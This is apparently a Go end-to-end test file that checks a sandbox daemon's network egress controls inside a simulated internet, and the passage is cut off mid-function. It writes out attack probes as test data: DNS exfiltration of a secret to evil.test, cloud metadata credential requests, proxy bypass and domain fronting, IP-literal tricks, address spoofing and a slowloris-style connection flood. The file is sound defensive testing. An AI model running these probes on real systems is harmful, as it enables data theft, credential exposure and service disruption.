// This file holds the NW rows of the attack catalogue (SECURITY.md §5) and
// RS-12: each runs a private daemon inside a fake internet of its own
// (fakenet: the daemon's only uplink is a veth to it), so every probe is
// judged at the fake servers, never by client silence.

package e2e

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"sbx.dev/sbx/internal/testutil/fakenet"
)

// nwEnv is a row's fake internet and the daemon inside it.
type nwEnv struct {
	r    *run
	d    *daemon
	inet *fakenet.Internet
}

// nw starts the row's private daemon in a fake internet. Every tier is
// offered; the operator blocks the fake LAN (10.9.0.0/16), as an operator
// would block theirs.
func (r *run) nw() *nwEnv {
	r.t.Helper()
	if e, ok := r.state["nw"]; ok && e != "" {
		return nwEnvs[e]
	}
	inet := fakenet.New(r.t)
	dir, err := os.MkdirTemp("", "sbx-security-nw-")
	if err != nil {
		r.t.Fatal(err)
	}
	hosts := filepath.Join(dir, "hosts")
	os.WriteFile(hosts, []byte("127.0.0.1 localhost\n"), 0o644)
	d := startDaemonNetns(r.t, sbxBin, filepath.Join(dir, "data"), inet.HostNS,
		"SANDBOX_BACKEND="+r.backend, "SBX_POOL_SIZE=0",
		"SBX_NETWORKS=none,allowlist,full",
		"SBX_NETWORK_NAMESERVERS="+fakenet.Nameserver,
		"SBX_NETWORK_HOSTS_FILE="+hosts,
		"SBX_NETWORK_BLOCK=10.9.0.0/16",
		// The daemon trusts the fake internet's CA, in tests only: where it
		// speaks TLS to an upstream itself (proxy-mode secrets).
		"SBX_NETWORK_UPSTREAM_CA="+inet.CACertFile)
	r.mu.Lock()
	r.private = append(r.private, d)
	r.mu.Unlock()
	e := &nwEnv{r: r, d: d, inet: inet}
	if r.state == nil {
		r.state = map[string]string{}
	}
	key := fmt.Sprintf("%p", e)
	r.state["nw"] = key
	nwEnvs[key] = e
	return e
}

var nwEnvs = map[string]*nwEnv{}

// allowAll is the allowlist the rows' allowlist sandboxes get.
var allowAll = []string{"allowed.test", "*.allowed.test", "meta.test", "metadata.google.internal", "loop.test", "host.test", "lan.test"}

func (e *nwEnv) sandbox(network map[string]any) string {
	e.r.t.Helper()
	id := e.d.create(map[string]any{"network": network})
	if st, b := e.d.api("PUT", "/v1/sandboxes/"+id+"/files/write", map[string]any{"path": "/tmp/ca.pem", "content": string(e.inet.CACertPEM)}); st != 200 {
		e.r.t.Fatalf("writing the CA: %d %s", st, b)
	}
	return id
}

func (e *nwEnv) allowlist() string {
	return e.sandbox(map[string]any{"mode": "allowlist", "allow": allowAll, "block": []string{"blocked.test"}})
}

// sh runs command in sandbox id and records its output for the row's scan.
func (e *nwEnv) sh(id, command string) execResult {
	e.r.t.Helper()
	res := e.d.exec(id, map[string]any{"command": command, "timeout": 60})
	e.r.record([]byte(res.Stdout + res.Stderr))
	return res
}

// probe runs command in id after clearing the far end's log, and returns
// what the far end saw (after a moment for a stray flow to land).
func (e *nwEnv) probe(id, command string) ([]fakenet.Event, execResult) {
	e.r.t.Helper()
	e.inet.Reset()
	res := e.sh(id, command)
	time.Sleep(100 * time.Millisecond)
	return e.inet.Log(), res
}

// control runs command and fails unless the far end saw match.
func (e *nwEnv) control(id, command, what string, match func(fakenet.Event) bool) error {
	log, res := e.probe(id, command)
	for _, ev := range log {
		if match(ev) {
			return nil
		}
	}
	return fmt.Errorf("control %s: the far end saw nothing (exit %d, %q %q)", what, res.ExitCode, res.Stdout, res.Stderr)
}

// blocked runs an attack and records a breach for each far-end event that
// match accepts (nil: any event at all).
func (e *nwEnv) blocked(id, command, what string, match func(fakenet.Event) bool) {
	log, _ := e.probe(id, command)
	for _, ev := range log {
		if match == nil || match(ev) {
			e.r.breach("%s: the far end saw %s", what, ev)
		}
	}
}

func httpHost(host string) func(fakenet.Event) bool {
	return func(ev fakenet.Event) bool {
		return ev.Kind == fakenet.KindHTTP && strings.EqualFold(ev.Name, host)
	}
}

const nwCurl = "curl -sS -m 5 --cacert /tmp/ca.pem "

// NW-01: the default tier reaches nothing.
func nw01Setup(r *run) error {
	e := r.nw()
	r.state["none"] = e.sandbox(nil) // the policy's default: none
	r.state["allow"] = e.allowlist()
	return nil
}

var nw01Probes = []string{
	nwCurl + "http://allowed.test/",
	nwCurl + "--noproxy '*' http://198.18.1.10/",
	"wget -q -O - -T 5 http://allowed.test/",
	"exec 3<>/dev/tcp/198.18.1.10/80 && printf 'GET / HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n' >&3 && cat <&3",
	"getent ahosts allowed.test",
	"timeout 5 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 x@198.18.1.10 true",
	`python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('198.18.1.10', 9999))"`,
}

func nw01Control(r *run) error {
	e := r.nw()
	if err := e.control(r.state["allow"], nw01Probes[0], "curl from an allowlist sandbox", httpHost("allowed.test")); err != nil {
		return err
	}
	// A name not looked up before: the daemon's resolver caches answers.
	return e.control(r.state["allow"], "getent ahosts www.allowed.test", "getent from an allowlist sandbox", func(ev fakenet.Event) bool {
		return ev.Kind == fakenet.KindDNS && strings.EqualFold(ev.Name, "www.allowed.test")
	})
}

func nw01Attack(r *run) error {
	e := r.nw()
	id := r.state["none"]
	if out := e.sh(id, "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '"); strings.TrimSpace(out.Stdout) != "lo" {
		r.breach("a none sandbox has interfaces besides lo: %q", out.Stdout)
	}
	for _, p := range nw01Probes {
		e.blocked(id, p, "none: "+p, nil)
	}
	return nil
}

// NW-02: a blocked domain through the proxy.
func nw02Setup(r *run) error {
	r.state["allow"] = r.nw().allowlist()
	return nil
}

func nw02Control(r *run) error {
	e := r.nw()
	if err := e.control(r.state["allow"], nwCurl+"http://allowed.test/", "HTTP through the proxy", httpHost("allowed.test")); err != nil {
		return err
	}
	return e.control(r.state["allow"], nwCurl+"https://allowed.test/", "CONNECT through the proxy", httpHost("allowed.test"))
}

func nw02Attack(r *run) error {
	e := r.nw()
	id := r.state["allow"]
	for _, u := range []string{"http://blocked.test/", "https://blocked.test/", "http://evil.test/"} {
		_, res := e.probe(id, nwCurl+"-o /dev/null -w '%{http_code}\\n' "+u+" 2>&1")
		if !strings.Contains(res.Stdout, "403") {
			r.breach("%s through the proxy: no 403 (%q)", u, res.Stdout)
		}
		for _, ev := range e.inet.Log() {
			r.breach("%s: the far end saw %s", u, ev)
		}
	}
	// The refusals are logged with the sandbox id, destination and rule.
	var ev struct {
		Events []struct{ Destination, Rule string } `json:"events"`
	}
	_, b := e.d.api("GET", "/v1/sandboxes/"+id+"/network/events", nil)
	json.Unmarshal(b, &ev)
	for _, want := range []string{"blocked.test:80", "blocked.test:443", "evil.test:80"} {
		found := false
		for _, x := range ev.Events {
			found = found || x.Destination == want && x.Rule != ""
		}
		if !found {
			return fmt.Errorf("no refusal of %s among the sandbox's network events: %s", want, b)
		}
	}
	logged := false
	for _, l := range strings.Split(e.d.log.String(), "\n") {
		logged = logged || strings.Contains(l, `msg="egress refused"`) && strings.Contains(l, "sandbox_id="+id) &&
			strings.Contains(l, "destination=blocked.test:443") && strings.Contains(l, `rule="block blocked.test"`)
	}
	if !logged {
		return fmt.Errorf("the daemon's log has no refusal of blocked.test:443 naming the sandbox and the rule")
	}
	return nil
}

// NW-03: bypassing the proxy: no proxy variables, raw sockets to the
// upstream's address, a resolver of its own.
func nw03Setup(r *run) error {
	r.state["allow"] = r.nw().allowlist()
	return nil
}

func nw03Control(r *run) error {
	return r.nw().control(r.state["allow"], "env -u HTTP_PROXY -u http_proxy "+nwCurl+"http://allowed.test/", "transparent HTTP without proxy variables", httpHost("allowed.test"))
}

func nw03Attack(r *run) error {
	e := r.nw()
	id := r.state["allow"]
	for _, p := range []string{
		"env -u HTTP_PROXY -u http_proxy " + nwCurl + "http://blocked.test/",
		nwCurl + "--noproxy '*' --resolve blocked.test:80:198.18.1.20 http://blocked.test/",
		`python3 -c "import socket; s=socket.create_connection(('198.18.1.20', 9000), 5); s.sendall(b'raw'); print(s.recv(9))"`,
		dnsQuery("blocked.test", "A", "198.18.0.53:53"),
		dnsQuery("x.evil.test", "A", "8.8.8.8:53"),
		"curl -sS -m 5 --noproxy '*' --dns-servers 198.18.0.53 http://blocked.test/",
	} {
		e.blocked(id, p, "bypass: "+p, func(ev fakenet.Event) bool {
			return !(ev.Kind == fakenet.KindDNS && strings.EqualFold(ev.Name, "allowed.test")) // the daemon's own lookups of allowed names
		})
	}
	return nil
}

// NW-04: IP literals of an allowlisted name's address, in every spelling.
func nw04Setup(r *run) error {
	e := r.nw()
	r.state["allow"] = e.allowlist()
	r.state["cidr"] = e.sandbox(map[string]any{"mode": "allowlist", "allow": []string{"198.18.1.10/32"}})
	return nil
}

var nw04Hosts = []string{"198.18.1.10", "3323068682", "0306.022.01.012", "0xc6.0x12.0x1.0xa", "0xc612010a", "198.18.266", "[::ffff:198.18.1.10]", "[::ffff:c612:10a]"}

func nw04Control(r *run) error {
	e := r.nw()
	return e.control(r.state["cidr"], nwCurl+"--noproxy '*' http://198.18.1.10/", "the listed CIDR, dotted", func(ev fakenet.Event) bool {
		return ev.Kind == fakenet.KindHTTP && ev.Local.Addr() == fakenet.AllowedAddr
	})
}

func nw04Attack(r *run) error {
	e := r.nw()
	for _, h := range nw04Hosts {
		for _, mode := range []string{"--noproxy '*' ", ""} {
			e.blocked(r.state["allow"], nwCurl+mode+"-H 'Host: "+h+"' http://198.18.1.10/", "Host "+h, nil)
			e.blocked(r.state["allow"], nwCurl+mode+"http://"+h+"/", "URL host "+h, nil)
		}
	}
	// Every spelling is the same address to the CIDR sandbox: the Host
	// forms reach it (one normalisation for every form).
	for _, h := range nw04Hosts[1:6] {
		log, _ := e.probe(r.state["cidr"], nwCurl+"--noproxy '*' -H 'Host: "+h+"' http://198.18.1.10/")
		if len(log) == 0 {
			r.note("Host %s under the listed CIDR: not normalised to 198.18.1.10 (refused)", h)
		}
	}
	e.blocked(r.state["allow"], nwCurl+"--noproxy '*' -H 'Host: [::1]' http://198.18.1.10/", "Host [::1]", nil)
	return nil
}

// NW-05: fronting.
func nw05Setup(r *run) error {
	r.state["allow"] = r.nw().allowlist()
	return nil
}

func nw05Control(r *run) error {
	e := r.nw()
	if err := e.control(r.state["allow"], nwCurl+"--noproxy '*' https://allowed.test/", "TLS to allowed.test", httpHost("allowed.test")); err != nil {
		return err
	}
	return e.control(r.state["allow"], nwCurl+"--noproxy '*' -H 'Host: allowed.test' http://198.18.1.10/", "Host allowed.test to its address", httpHost("allowed.test"))
}

func nw05Attack(r *run) error {
	e := r.nw()
	id := r.state["allow"]
	blockedTouched := func(ev fakenet.Event) bool {
		return strings.EqualFold(ev.Name, "blocked.test") || strings.EqualFold(ev.SNI, "blocked.test") || ev.Local.Addr() == fakenet.BlockedAddr
	}
	for _, p := range []string{
		// SNI blocked.test in a tunnel to allowed.test:443
		`python3 - <<'PY'
import socket, ssl
s = socket.create_connection(("10.213.0.1", 3128), 5)
s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
print(s.recv(200))
c = ssl.create_default_context(cafile="/tmp/ca.pem")
t = c.wrap_socket(s, server_hostname="blocked.test")
t.sendall(b"GET / HTTP/1.1\r\nHost: blocked.test\r\n\r\n"); print(t.recv(200))
PY`,
		nwCurl + "--noproxy '*' --connect-to blocked.test:443:198.18.1.10:443 https://blocked.test/",
		nwCurl + "--noproxy '*' -H 'Host: blocked.test' http://198.18.1.10/",
		`python3 - <<'PY'
import socket
s = socket.create_connection(("198.18.1.10", 80), 5)
s.sendall(b"GET http://blocked.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"); print(s.recv(300))
PY`,
		`python3 - <<'PY'
import socket
s = socket.create_connection(("10.213.0.1", 3128), 5)
s.sendall(b"GET http://blocked.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"); print(s.recv(300))
PY`,
	} {
		e.blocked(id, p, "fronting", blockedTouched)
	}
	return nil
}

// NW-06: DNS exfiltration.
func nw06Setup(r *run) error {
	r.state["allow"] = r.nw().allowlist()
	return nil
}

func nw06Control(r *run) error {
	return r.nw().control(r.state["allow"], "getent hosts allowed.test", "an allowed name resolves", func(ev fakenet.Event) bool {
		return ev.Kind == fakenet.KindDNS && strings.EqualFold(ev.Name, "allowed.test")
	})
}

func nw06Attack(r *run) error {
	e := r.nw()
	id := r.state["allow"]
	for _, p := range []string{
		"getent hosts $(echo s3cr3t | base32 | tr -d =).evil.test",
		dnsQuery("s3cr3t.evil.test", "TXT", ""),
		dnsQuery("txt.allowed.test", "TXT", ""),
		dnsQuery("s3cr3t.evil.test", "A", "198.18.0.53:53"),
		dnsQuery("s3cr3t.evil.test", "ANY", "198.18.1.30:53"),
		`python3 - <<'PY'
import socket, struct
q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x06s3cr3t\x04evil\x04test\x00" + struct.pack(">HH", 1, 1)
s = socket.create_connection(("198.18.0.53", 53), 5); s.sendall(struct.pack(">H", len(q)) + q); print(s.recv(512))
PY`,
		nwCurl + "-H 'accept: application/dns-json' 'https://evil.test/dns-query?name=s3cr3t.evil.test'",
	} {
		e.blocked(id, p, "exfiltration", func(ev fakenet.Event) bool {
			return ev.Kind == fakenet.KindDNS && (strings.HasSuffix(strings.ToLower(ev.Name), "evil.test") || ev.QType == "TXT") || strings.EqualFold(ev.Name, "evil.test")
		})
	}
	return nil
}

// NW-07: IPv6.
func nw07Setup(r *run) error {
	e := r.nw()
	r.state["allow"] = e.allowlist()
	r.state["full"] = e.sandbox(map[string]any{"mode": "full"})
	return nil
}

func nw07Control(r *run) error {
	return r.nw().control(r.state["full"], nwCurl+"--noproxy '*' http://198.18.1.10/", "IPv4 from full", func(ev fakenet.Event) bool {
		return ev.Kind == fakenet.KindHTTP
	})
}

func nw07Attack(r *run) error {
	e := r.nw()
	for _, tier := range []string{"allow", "full"} {
		id := r.state[tier]
		if out := e.sh(id, "cat /proc/net/if_inet6; ip -6 addr; ip -6 route"); strings.TrimSpace(out.Stdout) != "" {
			r.breach("%s: the sandbox has IPv6: %q", tier, out.Stdout)
		}
		for _, p := range []string{
			"curl -sS -m 3 -6 'http://[2001:db8:1::10]/'",
			"curl -sS -m 3 -6 'http://[fe80::1%eth0]/'",
			"curl -sS -m 3 -6 'http://[fd00::1]/'",
			"curl -sS -m 3 --noproxy '*' http://v6only.test/",
			`python3 -c "import socket; s=socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'x', ('2001:db8:1::10', 9999))"`,
		} {
			// The daemon resolving a name is not the sandbox's traffic.
			e.blocked(id, p, tier+" IPv6: "+p, func(ev fakenet.Event) bool { return ev.Kind != fakenet.KindDNS })
		}
	}
	return nil
}

// NW-08: metadata, under every tier, by address and by name.
func nw08Setup(r *run) error {
	e := r.nw()
	r.state["allow"] = e.allowlist()
	r.state["full"] = e.sandbox(map[string]any{"mode": "full"})
	return nil
}

func nw08Control(r *run) error {
	// The fake metadata service answers from the daemon's own namespace:
	// the probe below would see it if the proxy went there.
	resp, err := r.nw().inet.HTTPClient(r.nw().inet.HostNS).Get("http://169.254.169.254/latest/meta-data/")
	if err != nil {
		return fmt.Errorf("control: the metadata service from the host namespace: %v", err)
	}
	resp.Body.Close()
	if len(r.nw().inet.MetadataRequests()) == 0 {
		return fmt.Errorf("control: the metadata service logged nothing")
	}
	return r.nw().control(r.state["full"], nwCurl+"--noproxy '*' http://allowed.test/", "full reaches allowed.test", httpHost("allowed.test"))
}

func nw08Attack(r *run) error {
	e := r.nw()
	for _, tier := range []string{"allow", "full"} {
		for _, p := range []string{
			nwCurl + "--noproxy '*' http://169.254.169.254/latest/meta-data/",
			nwCurl + "-X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token",
			nwCurl + "--noproxy '*' http://169.254.170.2/",
			nwCurl + "--noproxy '*' http://100.100.100.200/",
			nwCurl + "--noproxy '*' -6 'http://[fd00:ec2::254]/'",
			nwCurl + "http://metadata.google.internal/computeMetadata/v1/",
			nwCurl + "--noproxy '*' http://meta.test/latest/meta-data/",
			nwCurl + "--noproxy '*' -H 'Host: allowed.test' http://169.254.169.254/",
		} {
			e.blocked(r.state[tier], p, tier+" metadata: "+p, fakenet.Is(fakenet.KindMetadata))
		}
	}
	return nil
}

// NW-09: the host and the LAN.
func nw09Setup(r *run) error {
	e := r.nw()
	r.state["allow"] = e.allowlist()
	r.state["full"] = e.sandbox(map[string]any{"mode": "full"})
	return nil
}

func nw09Control(r *run) error {
	e := r.nw()
	c, err := e.inet.Dial(r.t.Context(), e.inet.HostNS, "tcp", e.inet.HostCanary.Uplink.String())
	if err != nil {
		return fmt.Errorf("control: the host canary: %v", err)
	}
	c.Close()
	time.Sleep(50 * time.Millisecond)
	if !e.inet.Seen(fakenet.Is(fakenet.KindCanary)) {
		return fmt.Errorf("control: the host canary logged nothing")
	}
	return e.control(r.state["full"], nwCurl+"--noproxy '*' http://198.18.1.30/", "full reaches a public address", func(ev fakenet.Event) bool {
		return ev.Kind == fakenet.KindHTTP
	})
}

func nw09Attack(r *run) error {
	e := r.nw()
	c := e.inet.HostCanary
	canary := func(ev fakenet.Event) bool {
		return ev.Kind == fakenet.KindCanary || ev.Local.Addr() == fakenet.LANAddr
	}
	for _, tier := range []string{"allow", "full"} {
		for _, p := range []string{
			fmt.Sprintf(nwCurl+"--noproxy '*' http://%s/", c.Uplink),
			fmt.Sprintf(nwCurl+"http://%s/", c.Uplink),
			fmt.Sprintf(nwCurl+"--noproxy '*' http://host.test:%d/", c.Uplink.Port()),
			fmt.Sprintf(nwCurl+"--noproxy '*' http://loop.test:%d/", c.Loopback.Port()),
			fmt.Sprintf(nwCurl+"--noproxy '*' -H 'Host: 127.0.0.1:%d' http://198.18.1.10/", c.Loopback.Port()),
			fmt.Sprintf(nwCurl+"--noproxy '*' -H 'Host: localhost:%d' http://198.18.1.10/", c.Loopback.Port()),
			nwCurl + "--noproxy '*' http://lan.test/",
			nwCurl + "--noproxy '*' http://10.9.9.9/",
			nwCurl + "--noproxy '*' http://10.213.0.1:22/",
			nwCurl + "--noproxy '*' http://10.213.0.1:15001/",
			fmt.Sprintf(nwCurl+"--noproxy '*' http://198.18.0.2:%d/", c.Uplink.Port()),
		} {
			e.blocked(r.state[tier], p, tier+" host/LAN: "+p, canary)
		}
	}
	return nil
}

// NW-10: sandbox A to sandbox B.
func nw10Setup(r *run) error {
	e := r.nw()
	r.state["a"] = e.sandbox(map[string]any{"mode": "full"})
	r.state["b"] = e.sandbox(map[string]any{"mode": "full"})
	out := e.sh(r.state["b"], "ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1")
	r.state["bip"] = strings.TrimSpace(out.Stdout)
	if _, err := netip.ParseAddr(r.state["bip"]); err != nil {
		return fmt.Errorf("B's address: %q", out.Stdout)
	}
	st, b := e.d.api("POST", "/v1/sandboxes/"+r.state["b"]+"/exec", map[string]any{
		"command":    "python3 -u -m http.server 8080 --bind 0.0.0.0 > /tmp/b.log 2>&1 & python3 -u -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.bind(('0.0.0.0', 5353)); [open('/tmp/b.log','a').write('udp %r\\n' % (s.recvfrom(100),)) for _ in iter(int, 1)]\" > /dev/null 2>&1 & sleep 1",
		"background": true})
	if st != 202 {
		return fmt.Errorf("starting B's listeners: %d %s", st, b)
	}
	time.Sleep(time.Second)
	return nil
}

func nw10Control(r *run) error {
	out := r.nw().sh(r.state["b"], "curl -sS -m 3 -o /dev/null -w '%{http_code}' http://127.0.0.1:8080/; sleep 0.2; cat /tmp/b.log")
	if !strings.HasPrefix(out.Stdout, "200") || !strings.Contains(out.Stdout, "GET / ") {
		return fmt.Errorf("control: B's listener from inside B: %q", out.Stdout)
	}
	return nil
}

func nw10Attack(r *run) error {
	e := r.nw()
	before := e.sh(r.state["b"], "wc -l < /tmp/b.log").Stdout
	bip := r.state["bip"]
	for _, p := range []string{
		"curl -sS -m 3 --noproxy '*' http://" + bip + ":8080/",
		"curl -sS -m 3 http://" + bip + ":8080/",
		`python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('` + bip + `', 5353))"`,
		`python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b'x', ('255.255.255.255', 5353)); s.sendto(b'x', ('10.213.255.255', 5353))"`,
		`python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('224.0.0.251', 5353))"`,
	} {
		e.sh(r.state["a"], p)
	}
	time.Sleep(300 * time.Millisecond)
	if after := e.sh(r.state["b"], "wc -l < /tmp/b.log").Stdout; after != before {
		r.breach("B's listeners logged A: %s", e.sh(r.state["b"], "cat /tmp/b.log").Stdout)
	}
	if out := e.sh(r.state["a"], "ip neigh show; cat /proc/net/arp"); strings.Contains(out.Stdout, bip) {
		r.breach("A learnt B's link address: %q", out.Stdout)
	}
	return nil
}

// NW-11: what names cannot police: UDP, ICMP, CONNECT to other ports.
func nw11Setup(r *run) error {
	r.state["allow"] = r.nw().allowlist()
	return nil
}

func nw11Control(r *run) error {
	return r.nw().control(r.state["allow"], nwCurl+"https://allowed.test/", "CONNECT allowed.test:443", httpHost("allowed.test"))
}

func nw11Attack(r *run) error {
	e := r.nw()
	id := r.state["allow"]
	e.blocked(id, `python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'quic', ('198.18.1.10', 443)); s.sendto(b'x', ('198.18.1.10', 9999))"`, "UDP to an allowed name's address", nil)
	e.blocked(id, `python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(b'\x08\x00\xf7\xff\x00\x00\x00\x00', ('198.18.1.10', 0))"`, "ICMP echo", nil)
	for _, target := range []string{"blocked.test:22", "blocked.test:25", "198.18.1.10:22", "198.18.1.20:25"} {
		_, res := e.probe(id, "curl -sS -m 5 -o /dev/null -w '%{http_code}' -p -x http://10.213.0.1:3128 telnet://"+target+" 2>&1")
		if !strings.Contains(res.Stdout, "403") {
			r.note("CONNECT %s answered %q", target, res.Stdout)
		}
		for _, ev := range e.inet.Log() {
			r.breach("CONNECT %s: the far end saw %s", target, ev)
		}
	}
	r.note("by design, a listed name is reachable on every TCP port (CONNECT allowed.test:22 goes through)")
	return nil
}

// NW-13: a sandbox speaking to the proxy as another, or as no one.
func nw13Setup(r *run) error {
	e := r.nw()
	r.state["a"] = e.sandbox(map[string]any{"mode": "allowlist", "allow": []string{"evil.test"}})
	r.state["b"] = e.allowlist()
	out := e.sh(r.state["b"], "ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1")
	r.state["bip"] = strings.TrimSpace(out.Stdout)
	return nil
}

func nw13Control(r *run) error {
	return r.nw().control(r.state["b"], nwCurl+"http://allowed.test/", "B reaches allowed.test", httpHost("allowed.test"))
}

func nw13Attack(r *run) error {
	e := r.nw()
	a, bip := r.state["a"], r.state["bip"]
	// Taking B's address, or speaking from any address but its own, needs
	// capabilities A does not have; each attempt must fail.
	for _, p := range []string{
		"ip addr add " + bip + "/32 dev eth0",
		"ip addr add 10.213.200.200/32 dev eth0",
		"ip link set eth0 address 02:00:00:00:00:01",
		`python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)"`,
		`python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.setsockopt(socket.SOL_IP, 15, 1); s.bind(('` + bip + `', 0)); s.settimeout(5); s.connect(('198.18.1.10', 80)); s.sendall(b'GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n'); print(s.recv(100))"`,
		`python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.setsockopt(socket.SOL_IP, 19, 1); s.bind(('` + bip + `', 0)); s.settimeout(5); s.connect(('198.18.1.10', 80)); s.sendall(b'GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n'); print(s.recv(100))"`,
	} {
		log, res := e.probe(a, p)
		if res.ExitCode == 0 {
			r.breach("A: %s succeeded: %q", p, res.Stdout)
		}
		for _, ev := range log {
			r.breach("A as B: the far end saw %s", ev)
		}
	}
	// A's own request is A's, judged by A's rules.
	e.blocked(a, nwCurl+"http://allowed.test/", "A under its own rules", httpHost("allowed.test"))
	return nil
}

// NW-14: the verdict comes from the bytes, not from connect().
func nw14Setup(r *run) error {
	r.state["allow"] = r.nw().allowlist()
	return nil
}

const nw14Probe = `python3 - <<'PY'
import socket
s = socket.create_connection(("%s", 80), 5)
print("connected")
s.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n")
print(s.recv(300))
PY`

func nw14Control(r *run) error {
	return r.nw().control(r.state["allow"], fmt.Sprintf(nw14Probe, "198.18.1.10", "allowed.test"), "allowed.test by the same bytes", httpHost("allowed.test"))
}

func nw14Attack(r *run) error {
	e := r.nw()
	log, res := e.probe(r.state["allow"], fmt.Sprintf(nw14Probe, "198.18.1.20", "blocked.test"))
	if !strings.Contains(res.Stdout, "connected") {
		r.note("the handshake did not complete: %q", res.Stdout)
	}
	if !strings.Contains(res.Stdout, "403") {
		r.breach("no 403 after a completed handshake: %q", res.Stdout)
	}
	for _, ev := range log {
		r.breach("the far end saw %s", ev)
	}
	return nil
}

// NW-15 and RS-12: a big upload through a tunnel, a flood of connections
// and slow clients; the caps hold and a sibling keeps being served.
func nw15Setup(r *run) error {
	e := r.nw()
	r.state["a"] = e.sandbox(map[string]any{"mode": "full"})
	r.state["b"] = e.allowlist()
	return nil
}

func nw15Control(r *run) error {
	e := r.nw()
	res := e.sh(r.state["a"], "head -c 67108864 /dev/urandom > /tmp/big && sha256sum /tmp/big | cut -c1-64 && "+
		nwCurl+"-m 60 -T /tmp/big https://allowed.test/upload")
	lines := strings.Fields(res.Stdout)
	if len(lines) != 2 || lines[0] != lines[1] {
		return fmt.Errorf("64 MiB PUT through a CONNECT tunnel: sha256 %q (exit %d %s)", res.Stdout, res.ExitCode, res.Stderr)
	}
	return e.control(r.state["b"], nwCurl+"http://allowed.test/", "the sibling", httpHost("allowed.test"))
}

// rs12Control: the sibling is served before the flood.
func rs12Control(r *run) error {
	return r.nw().control(r.state["b"], nwCurl+"http://allowed.test/", "the sibling", httpHost("allowed.test"))
}

func nw15Attack(r *run) error {
	e := r.nw()
	// 3000 connections held open at once (over the 1024 a sandbox may have
	// through the proxy), half of them silent (slowloris), half mid-request.
	st, b := e.d.api("POST", "/v1/sandboxes/"+r.state["a"]+"/exec", map[string]any{
		"command": `python3 - <<'PY'
import socket, time, resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
socks = []
for i in range(3000):
    try:
        s = socket.socket(); s.setblocking(False)
        s.connect_ex(("198.18.1.10", 80))
        socks.append(s)
    except OSError as e:
        print("stopped at", i, e); break
time.sleep(1)
for i, s in enumerate(socks):
    try:
        if i % 2: s.send(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n")
    except OSError: pass
time.sleep(20)
PY`, "background": true, "timeout": 60})
	if st != 202 {
		return fmt.Errorf("starting the flood: %d %s", st, b)
	}
	time.Sleep(3 * time.Second)
	for i := range 3 {
		began := time.Now()
		if err := e.control(r.state["b"], nwCurl+"http://allowed.test/", "the sibling during the flood", httpHost("allowed.test")); err != nil {
			r.breach("round %d: %v", i, err)
		}
		r.note("sibling request during the flood: %s", time.Since(began).Round(time.Millisecond))
	}
	// At most 1024 of the flood's connections went through; the rest were
	// refused at the cap (the totals count every decision; the newest 512
	// events are the allowed ones, decided later).
	var ev struct {
		Allowed, Refused int64
	}
	_, body := e.d.api("GET", "/v1/sandboxes/"+r.state["a"]+"/network/events", nil)
	json.Unmarshal(body, &ev)
	if ev.Refused == 0 || ev.Allowed > 1024+1 {
		r.breach("the per-sandbox cap did not hold: %d allowed, %d refused", ev.Allowed, ev.Refused)
	}
	r.note("flood: %d connections let through, %d refused at the cap", ev.Allowed, ev.Refused)
	return nil
}

// NW-16: tightening a running sandbox's policy.
func nw16Setup(r *run) error {
	e := r.nw()
	r.state["a"] = e.sandbox(map[string]any{"mode": "allowlist", "allow": []string{"allowed.test"}})
	st, b := e.d.api("POST", "/v1/sandboxes/"+r.state["a"]+"/exec", map[string]any{
		"command": `python3 -u - > /tmp/held.log 2>&1 <<'PY'
import socket, time
s = socket.create_connection(("198.18.1.10", 80), 5)
s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
print("first", s.recv(200)[:12], flush=True)
time.sleep(4)
try:
    s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    print("second", s.recv(200)[:12], flush=True)
except OSError as e:
    print("second failed", e, flush=True)
PY`, "background": true, "timeout": 30})
	if st != 202 {
		return fmt.Errorf("starting the held connection: %d %s", st, b)
	}
	time.Sleep(1500 * time.Millisecond)
	return nil
}

func nw16Control(r *run) error {
	e := r.nw()
	if out := e.sh(r.state["a"], "cat /tmp/held.log").Stdout; !strings.Contains(out, "first b'HTTP/1.1 200") {
		return fmt.Errorf("control: the held connection's first request: %q", out)
	}
	return nil
}

func nw16Attack(r *run) error {
	e := r.nw()
	st, b := e.d.api("PUT", "/v1/sandboxes/"+r.state["a"]+"/network", map[string]any{"mode": "allowlist", "allow": []string{"evil.test"}})
	if st != 200 {
